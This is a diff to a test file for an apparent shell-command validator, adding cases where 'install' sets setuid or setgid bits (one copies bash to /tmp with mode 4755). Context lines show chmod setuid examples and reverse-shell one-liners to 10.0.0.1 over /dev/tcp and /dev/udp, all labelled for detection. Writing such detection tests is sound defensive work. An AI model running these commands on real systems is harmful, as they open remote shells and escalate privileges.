@@ -65,6 +65,8 @@ from clawgate.validators.deletes import RecursiveDeleteOfVitalPath
     ("chmod u+s /tmp/sh", "CG-CAT-007"),
     ("chmod 4755 ./tool", "CG-CAT-007"),
     ("chmod +s bin/tool", "CG-CAT-007"),
+    ("install -m 4755 /bin/bash /tmp/b", "CG-CAT-007"),
+    ("install --mode=6755 tool /usr/local/bin/tool", "CG-CAT-007"),
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "CG-CAT-008"),
     ("sh < /dev/udp/10.0.0.1/53", "CG-CAT-008"),
     ("exec 5<>/dev/tcp/10.0.0.1/80", "CG-CAT-008"),
